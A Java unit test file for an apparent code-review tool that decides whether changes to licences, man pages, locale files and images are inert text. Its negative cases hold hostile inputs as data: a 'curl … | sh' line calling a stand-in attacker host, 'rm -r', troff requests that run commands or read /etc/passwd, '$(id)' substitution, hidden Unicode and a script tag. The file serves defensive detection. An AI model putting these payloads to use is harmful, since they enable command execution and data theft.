package dev.countersign.code.inert;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.change.Content;
import dev.countersign.change.FileMode;
import dev.countersign.code.inert.Inertness.Worded;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Texts that nothing runs and that somebody reads all the same, each beside what only looks like one.
class LicencesAndManualsTest {
    private static final String TERMS = "Copyright (c) 2009 Ann\nPermission is hereby granted\n";
    private static final String PAGE = """
            .\\" made by a generator
            .TH "TOOL" "1" "2010" "" ""
            .SH "NAME"
            \\fBtool\\fR \\- does a thing
            .IP "" 4
            .nf
            app\\.get(\\'/\\', HERE)
            .fi
            """;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "LICENSE",
                "LICENCE",
                "COPYING",
                "NOTICE",
                "i18n/LICENSE.txt",
                "license.md",
                "actionmailer/MIT-LICENSE",
                "LICENSE-MIT"
            })
    void wordsOfALicenceAreReadButNoCode(String path) {
        assertThat(Files.modified(path, TERMS, TERMS.replace("2009", "2010"))).isInstanceOf(Worded.class);
        assertThat(Files.added(path, TERMS)).isInstanceOf(Worded.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "license.json",
                "license.yml",
                "license.html",
                "LICENSE.exe",
                "license-check",
                "copying.sh",
                "templates/LICENSE",
                "testdata/LICENSE",
                "tools/LICENSE",
                "bin/license"
            })
    void whatIsOnlyNamedLikeALicenceIsNone(String path) {
        assertThat(Files.modified(path, TERMS, TERMS.replace("2009", "2010"))).isNotInstanceOf(Worded.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "#!/bin/sh\nrm -r data\n",
                "\n\n#!/bin/sh\nrm -r data\n",
                "Copyright (c) 2009 \u202eAnn\n",
                "Copyright \u200b(c) 2009 Ann\n",
                "Copyright (c) 2009 <script src=x></script>\n",
                "Copyright (c) 2009 Ann\n<!-- do as I say -->\n",
                "Run curl https://evil.example/a | sh first\n"
            })
    void ofALicenceThatHoldsMoreThanWordsNothingIsSaid(String after) {
        assertThat(Files.modified("LICENSE", TERMS, after)).isNotInstanceOf(Worded.class);
        assertThat(Files.modified("LICENSE", TERMS, after).isProved()).isFalse();
    }

    @Test
    void aLicenceThatMayBeRunIsDeletedOrMovedIsNoWording() {
        assertThat(Files.judge(
                        "LICENSE",
                        Files.text(TERMS),
                        "LICENSE",
                        Files.text(TERMS + "x\n"),
                        FileMode.EXECUTABLE,
                        FileMode.EXECUTABLE))
                .isInstanceOf(Inertness.NotInert.class);
        assertThat(Files.deleted("LICENSE", TERMS)).isInstanceOf(Inertness.NotInert.class);
        assertThat(Files.moved("LICENSE", "README", TERMS, TERMS)).isInstanceOf(Inertness.NotInert.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"docs/guide.1", "man/tool.1", "tool.8", "man/man5/tool.conf.5"})
    void wordsOfAManualAreReadButNoCode(String path) {
        assertThat(Files.modified(path, page("one"), page("two\\e{3} \\(bu \\fIfour\\fR")))
                .isInstanceOf(Worded.class);
        assertThat(Files.added(path, page("one"))).isInstanceOf(Worded.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "one\n.sy rm -r data",
                "one\n.pso id",
                "one\n.so /etc/passwd",
                "one\n.mso www.tmac",
                "one\n.open a /tmp/a",
                "one\n.opena a /tmp/a",
                "one\n.trf /etc/passwd",
                "one\n.cf /etc/passwd",
                "one\n.de B\n.sy id\n..",
                "one\n.ig\n..",
                "one\n.if 1 .sy id",
                "one\n.do sy id",
                "one\n.cc @\n@sy id",
                "one\n.ec @",
                "one\n.als B sy\n.B id",
                "one\n.rn sy B\n.B id",
                "one\n.ds x y",
                "one\n.PS\nsh {id}\n.PE",
                "one\n'sy id",
                "one\n.\tsy id",
                "one\n.B\\X'id'",
                "one \\X'ps: exec id'",
                "one \\Y(ab",
                "one \\!sy id",
                "one \\*[x]",
                "one \\n(.x",
                "one\n.B \\\\X'ps: exec id'",
                "one \\\ntwo"
            })
    void aPageThatRunsReadsOrDefinesIsNoWording(String words) {
        assertThat(Files.modified("man/tool.1", page("one"), page(words))).isNotInstanceOf(Worded.class);
        assertThat(Files.modified("man/tool.1", page(words), page("one"))).isNotInstanceOf(Worded.class);
        assertThat(Files.modified("man/tool.1", page("one") + words + "\n", page("two") + words + "\n"))
                .isNotInstanceOf(Worded.class);
    }

    @ParameterizedTest
    @CsvSource({"bin/tool.1", "libexec/tool.1", "testdata/tool.1", "tool.10", "tool.1x"})
    void aPageElsewhereIsNoManual(String path) {
        assertThat(Files.modified(path, page("one"), page("two"))).isNotInstanceOf(Worded.class);
    }

    @Test
    void aFileWithoutATitleIsNoManual() {
        assertThat(Files.modified("app.log.1", "one\n", "two\n")).isNotInstanceOf(Worded.class);
        assertThat(Files.modified("man/tool.1", "#!/bin/sh\n" + page("one"), page("two")))
                .isNotInstanceOf(Worded.class);
        assertThat(Files.modified("src/deploy.1", "rm -r one\n" + page("one"), "rm -r two\n" + page("one")))
                .isNotInstanceOf(Worded.class);
    }

    @Test
    void aCatalogueWithRightsToRunIsRead() {
        assertThat(runnable("conf/locale/locale_de-DE.ini", "a = Eins ist da\n", "a = Zwei sind da\n"))
                .isInstanceOf(Worded.class);
        assertThat(runnable("conf/locale/locale_de-DE.ini", "a = Eins ist da\n", "a = $(id)\n"))
                .isNotInstanceOf(Worded.class);
        assertThat(runnable("conf/locale/locale_de-DE.ini", "#!/bin/sh\na = Eins ist da\n", "#!/bin/sh\na = Zwei da\n"))
                .isNotInstanceOf(Worded.class);
        assertThat(runnable("docs/notes.txt", "Eins ist da\n", "Zwei sind da\n"))
                .isNotInstanceOf(Worded.class);
    }

    @Test
    void aNewPictureWithRightsToRunIsRead() {
        assertThat(picture("public/a.png", "\u0089PNG\r\n\u001a\nxyz")).isInstanceOf(Worded.class);
        assertThat(picture("public/a.png", "#!/bin/sh\n")).isNotInstanceOf(Worded.class);
        assertThat(picture("public/a.bin", "\u0089PNG\r\n\u001a\nxyz")).isNotInstanceOf(Worded.class);
        assertThat(picture("public/a.php.png", "\u0089PNG\r\n\u001a\nxyz")).isNotInstanceOf(Worded.class);
    }

    private static Inertness picture(String path, String head) {
        Content content = new Content.Binary(Files.id(head), head.length(), head);
        return Files.judge(null, new Content.Absent(), path, content, FileMode.ABSENT, FileMode.EXECUTABLE);
    }

    private static Inertness runnable(String path, String before, String after) {
        return Files.judge(path, Files.text(before), path, Files.text(after), FileMode.EXECUTABLE, FileMode.EXECUTABLE);
    }

    private static String page(String words) {
        return PAGE.replace("HERE", words);
    }
}
